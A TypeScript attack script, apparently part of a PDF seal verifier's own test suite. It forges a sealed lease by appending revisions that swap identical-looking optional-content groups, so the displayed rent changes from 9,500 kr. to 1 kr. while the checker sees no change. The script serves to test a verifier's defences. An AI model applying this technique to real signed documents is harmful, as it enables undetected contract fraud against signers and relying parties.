// O1: optional content swapped by identity under a comparison by content. A sealed document whose page 1 shows
// "Husleje: 9.500 kr." in OCG A and hides "Husleje: 1 kr." in OCG B (/OCProperties /D /OFF [B]), A and B two
// identical dictionaries (<< /Type /OCG /Name (Husleje) >>). A later revision (anyone's: no key) rewrites the
// catalog with /D /OFF [A]: seal-modifications compares /OCProperties by content (rules.ts compareDicts: a key
// without a rule that is not an IDENTITY_KEY passes when sameContent), and A and B have the same content, so the
// revision changes nothing for sealcheck. Every reader decides visibility by the OCG's identity: B shows, A hides.
//   npx tsx scripts/attack-s11/ocg-identity.ts <mode>
// modes: honest (the sealed archive as it is); swap (the catalog's /D /OFF [B] -> [A]); resources (page 1's
// /Resources /Properties moved to a new object naming the other OCG under each name: /ocA -> B, /ocB -> A);
// swap-dss (swap, plus a DSS in the same revision: an "LTV" update as augment writes one); copy-honest, copy (two
// different groups, B a white box and "1 kr."; the update names B', a new copy of B, in page 1's /Properties).
// AUGMENT=1: then `sealcheck augment` the result with the loopback TSA, and verify the renewed archive.
import { PDFArray, PDFDict, PDFName, PDFRef, PDFString } from "pdf-lib";
import { appendIncrementalUpdate, loadForUpdate } from "../generator/incremental.js";
import { LEASE_LINES, judgeOptionalContent, ocOriginal, sealWithOptionalContent } from "./optional-content.js";

const mode = process.argv[2] ?? "swap";
const MODES = ["honest", "swap", "resources", "swap-dss", "copy", "copy-honest", "switch", "widget-honest", "widget-swap"];
/** widget-*: the rent is drawn by two printable widgets of the original (their /AP), one per group (/OC). */
const widgets = mode.startsWith("widget");
if (!MODES.includes(mode)) throw new Error(`mode: ${MODES.join("|")}, not ${mode}`);
/** copy, copy-honest: two different groups (Husleje, Tillaeg); group B paints a white box over the rent and "1 kr.". */
const distinct = mode.startsWith("copy");

/** The original the workflow's initiator uploads: page 1 with the rent in two optional-content groups. */
const original = await ocOriginal(LEASE_LINES, (ctx, font, page) => {
  const a = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of("Husleje") }));
  const b = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of(distinct ? "Tillaeg" : "Husleje") }));
  const widget = (name: string, text: string, oc: PDFRef) => {
    const ap = ctx.register(
      ctx.stream(`BT /F1 12 Tf 5 5 Td (${text}) Tj ET`, { Type: "XObject", Subtype: "Form", BBox: [0, 0, 320, 20], Resources: { Font: { F1: font.ref } } }),
    );
    return ctx.register(
      ctx.obj({ Type: "Annot", Subtype: "Widget", FT: "Tx", T: PDFString.of(name), F: 4, Rect: [55, 645, 375, 665], AP: { N: ap }, OC: oc, P: page.ref }),
    );
  };
  return {
    ops: [
      ...(widgets ? [] : ["/OC /ocA BDC BT /F1 12 Tf 60 650 Td (Husleje: 9.500 kr. pr. maaned) Tj ET EMC"]),
      widgets
        ? ""
        : distinct
          ? "/OC /ocB BDC 1 g 55 645 320 20 re f 0 g BT /F1 12 Tf 60 650 Td (Husleje: 1 kr. pr. maaned) Tj ET EMC"
          : "/OC /ocB BDC BT /F1 12 Tf 60 650 Td (Husleje: 1 kr. pr. maaned) Tj ET EMC",
    ],
    resources: { Properties: { ocA: a, ocB: b } },
    ocProperties: { OCGs: [a, b], D: { Order: [a, b], OFF: [b] } },
    after: () => {
      if (widgets)
        page.node.set(PDFName.of("Annots"), ctx.obj([widget("rentA", "Husleje: 9.500 kr. pr. maaned", a), widget("rentB", "Husleje: 1 kr. pr. maaned", b)]));
    },
  };
});

let A!: PDFRef, B!: PDFRef;
// widget-*: the seal's widget on the signer page (page 3), so page 1 keeps the original's /Annots.
const s = await sealWithOptionalContent(
  original,
  (pre) => {
    const props = pre.getPage(0).node.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("Properties"), PDFDict);
    A = props.get(PDFName.of("ocA")) as PDFRef;
    B = props.get(PDFName.of("ocB")) as PDFRef;
    return pre.context.obj({ OCGs: [A, B], D: { Order: [A, B], OFF: [B] } });
  },
  widgets ? 2 : 0,
);
const { P, sealed } = s;

let out = sealed;
if (!mode.endsWith("honest")) {
  const doc = await loadForUpdate(sealed);
  const ctx = doc.context;
  const objects: { num: number; body: PDFDict }[] = [];
  if (mode === "swap" || mode === "swap-dss" || mode === "switch") {
    // switch (the control, attack-s6's untried idea): the /OFF array's content changes ([B] -> []), which is seen.
    const c = doc.catalog.clone(ctx);
    c.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [A, B], D: { Order: [A, B], OFF: mode === "switch" ? [] : [A] } }));
    if (mode === "swap-dss") {
      const cert = ctx.register(ctx.stream(P.sealRoot.der));
      objects.push({ num: cert.objectNumber, body: ctx.lookup(cert) as never });
      c.set(PDFName.of("DSS"), ctx.obj({ Type: "DSS", Certs: ctx.obj([cert]) as PDFArray }));
    }
    objects.push({ num: (ctx.trailerInfo.Root as PDFRef).objectNumber, body: c });
  } else if (mode === "widget-swap") {
    // The two widgets rewritten with each other's group: /OC compared by content (twins), read by identity.
    const annots = doc.getPage(0).node.lookup(PDFName.of("Annots"), PDFArray);
    [0, 1].forEach((i) => {
      const ref = annots.get(i) as PDFRef;
      const w = (ctx.lookup(ref) as PDFDict).clone(ctx);
      w.set(PDFName.of("OC"), i === 0 ? B : A);
      objects.push({ num: ref.objectNumber, body: w });
    });
  } else if (mode === "copy") {
    // A new object with B's content: page 1's /Properties names it instead of B (nothing else changes).
    const page = doc.getPage(0);
    const copy = ctx.register((ctx.lookup(B) as PDFDict).clone(ctx));
    const res = page.node.lookup(PDFName.of("Resources"), PDFDict).clone(ctx);
    res.set(PDFName.of("Properties"), ctx.obj({ ocA: A, ocB: copy }));
    const resRef = ctx.register(res);
    const p = page.node.clone(ctx);
    p.set(PDFName.of("Resources"), resRef);
    objects.push(
      { num: copy.objectNumber, body: ctx.lookup(copy) as PDFDict },
      { num: resRef.objectNumber, body: res },
      { num: page.ref.objectNumber, body: p },
    );
  } else {
    const page = doc.getPage(0);
    const res = page.node.lookup(PDFName.of("Resources"), PDFDict).clone(ctx);
    res.set(PDFName.of("Properties"), ctx.obj({ ocA: B, ocB: A }));
    const resRef = ctx.register(res);
    const p = page.node.clone(ctx);
    p.set(PDFName.of("Resources"), resRef);
    objects.push({ num: resRef.objectNumber, body: res }, { num: page.ref.objectNumber, body: p });
  }
  out = appendIncrementalUpdate(sealed, { objects: objects.sort((x, y) => x.num - y.num) }).bytes;
}

await judgeOptionalContent(`s11-ocg-${mode}`, mode, s, out);
